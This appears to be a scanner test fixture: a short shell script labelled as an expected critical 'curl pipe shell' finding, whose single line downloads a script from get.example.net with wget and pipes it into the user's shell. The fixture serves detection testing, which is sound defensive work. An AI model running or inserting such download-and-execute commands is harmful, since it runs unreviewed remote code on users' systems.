# expect: shell.curl_pipe_shell critical
# note: the user's shell with a default
# path: scripts/tp_pipe_to_shell_variable_default.sh
#!/bin/sh
wget -qO- https://get.example.net/i | ${SHELL:-sh} -s
